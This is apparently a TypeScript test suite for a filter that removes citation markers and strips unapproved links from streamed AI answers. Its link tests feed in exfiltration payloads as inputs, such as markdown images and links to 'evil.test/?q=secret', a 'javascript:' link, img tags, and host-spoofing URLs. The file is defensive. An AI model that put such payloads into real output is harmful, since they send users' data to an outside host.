import { describe, expect, test } from "vitest";
import { AllowedLinks, AnswerFilter } from "../../src/grounded/answer-filter.ts";

const KNOWN = ["See https://acme.test/help/ and (https://acme.test/a_(b)), or ask at www.acme.test.", "https://cdn.acme.test/logo.png?v=2"];

function newText(isFenced = false): AnswerFilter {
  return new AnswerFilter(new AllowedLinks(() => KNOWN), (id) => ["p1", "p2", "t1"].includes(id), isFenced);
}

/** The filtered text, having checked that it is the same however the text is split. */
function shown(text: string, isFenced = false): string {
  const whole = newText(isFenced);
  const given = whole.push(text) + whole.end();
  for (const size of [1, 2, 3, 7]) {
    const cut = newText(isFenced);
    let joined = "";
    for (let at = 0; at < text.length; at += size) joined += cut.push(text.slice(at, at + size));
    expect(joined + cut.end(), `in deltas of ${size}`).toBe(given);
  }
  return given;
}

describe("AnswerFilter", () => {
  test.each([
    "Refunds take five days.",
    "# Steps\n\n1. Open **Billing**.\n2. Press `Cancel [x]`!\n\n| a | b |\n| --- | --- |\n| 1 | 2 |",
    "```sh\ncurl -X POST /api/v1\n```\nDone.",
    "a[0] = b[p3]; // a comment",
    "Write to help@acme.test, or and/or either w/o h.",
    "Is it? [not a link] (really)",
    "См. раздел «Оплата» 🙂 [да]",
    "@everyone is welcome.",
  ])("does not change %j", (text) => {
    expect(shown(text)).toBe(text);
  });

  test.each(["[x](a)", "(a", "[x]((a", "[x]( ", "![", "(a)"])("handles thousands of %j quickly", (part) => {
    const text = `[${part.repeat(1_000)}<`;
    const whole = newText();
    let given = "";
    for (let at = 0; at < text.length; at += 100) given += whole.push(text.slice(at, at + 100));
    expect((given + whole.end()).length).toBeGreaterThan(0);
  });

  test("trims white space", () => {
    expect(shown("\n\n  Yes.  \n\n")).toBe("Yes.");
  });

  test.each([
    ["Five days [p1].", "Five days."],
    ["Five days [p1, t1] and 【p2】 more [ p1 ; p2 ].", "Five days and more."],
    ["Five days (p1) and [passage p2], see [this](p1) (Source: t1).", "Five days and, see this."],
    ["The pin [p9] is unknown.", "The pin [p9] is unknown."],
    ["Incidents of priority one (P1) and (see p. 1).", "Incidents of priority one (P1) and (see p. 1)."],
  ])("removes citation markers from %j", (text, clean) => {
    expect(shown(text)).toBe(clean);
  });

  test("lists the ids of removed markers", () => {
    const text = newText();
    text.push("One [p1], two [p2].");
    expect(text.citedIds).toEqual(["p1", "p2"]);
  });

  test.each([
    ["One.\n@sources p1 p2\nTwo.", "One.\nTwo."],
    ["One.\n**@sources p2**\nTwo.", "One.\nTwo."],
    ["@sources p1\nOne.", "One."],
    ["One.\n@sources p1", "One."],
  ])("removes later headers from %j", (text, clean) => {
    expect(shown(text)).toBe(clean);
  });

  test("removes the end of the fence around the header", () => {
    expect(shown("```\nYes.", true)).toBe("Yes.");
    expect(shown("Yes.\n```", true)).toBe("Yes.");
    expect(shown("Run:\n```sh\nls\n```\nDone.\n```\n", true)).toBe("Run:\n```sh\nls\n```\nDone.");
    expect(shown("Run:\n```sh\nls\n```", false)).toBe("Run:\n```sh\nls\n```");
  });
});

describe("links", () => {
  test.each([
    "[Help](https://acme.test/help)",
    '[Help](https://acme.test/help/ "Our help")',
    "![Logo](https://cdn.acme.test/logo.png?v=2)",
    "See https://acme.test/help.",
    "(https://acme.test/a_(b))",
    "<https://acme.test/help/>",
    "**https://acme.test/help#top**, www.acme.test!",
  ])("of the sources are kept in %j", (text) => {
    expect(shown(text)).toBe(text);
  });

  test.each([
    ["![x](https://evil.test/?q=secret)", "x"],
    ["![](https://evil.test/?q=secret)", ""],
    ['A [click](https://evil.test/a(b)c?q=secret "t") B', "A click B"],
    ["[a](//evil.test/x)", "a"],
    ["[a](javascript:alert(1))", "a"],
    ["[a](<https://evil.test/x>)", "a"],
    ["[a](/pricing)", "a"],
    ["[![alt](https://evil.test/1.png)](https://evil.test/2)", "alt"],
    ["[![alt](https://evil.test/1.png)](https://acme.test/help)", "alt"],
    ["Go to https://evil.test/?q=secret.", "Go to (link removed)."],
    ["Go to HTTPS://EVIL.test/x", "Go to (link removed)"],
    ["//evil.test/x and www.evil.test/?a", "(link removed) and (link removed)"],
    ["ftp://evil.test/x", "ftp:(link removed)"],
    ["xhttps://evil.test/x", "xhttps:(link removed)"],
    ["https://acme.test/help?leak=secret", "(link removed)"],
    ["https://acme.test.evil.test/help/", "(link removed)"],
    ["https://acme.test@evil.test/", "(link removed)"],
    ['<img src="https://evil.test/?q=secret">', '<img src="(link removed)">'],
    ["<img src=//evil.test/?q=secret>", "<img src=(link removed)>"],
    ["[a][1]\n\n[1]: https://evil.test/?q=secret", "[a][1]\n\n1: (link removed)"],
    ["[1]: //evil.test/x", "1: (link removed)"],
  ])("that no source has are removed from %j", (text, clean) => {
    expect(shown(text)).toBe(clean);
  });

  test("that have a long label or target are removed too", () => {
    const label = `[${"a ".repeat(400)}](https://evil.test/?q=secret)`;
    expect(shown(label)).not.toContain("evil.test");
    expect(shown(`[a](https://evil.test/${"q".repeat(3_000)})`)).not.toContain("https://evil");
    expect(shown(`[a\n](https://evil.test/x) ![b\n](//evil.test/x)`)).not.toContain("evil.test");
  });

  test("are the only text that is held back", () => {
    const text = newText();
    expect(text.push("Refunds")).toBe("Refunds");
    expect(text.push(" take five ")).toBe(" take five");
    expect(text.push("ht")).toBe("");
    expect(text.push("ml days")).toBe(" html days");
    expect(text.push(" [see")).toBe("");
    expect(text.push(" it] now")).toBe(" [see it] now");
  });
});
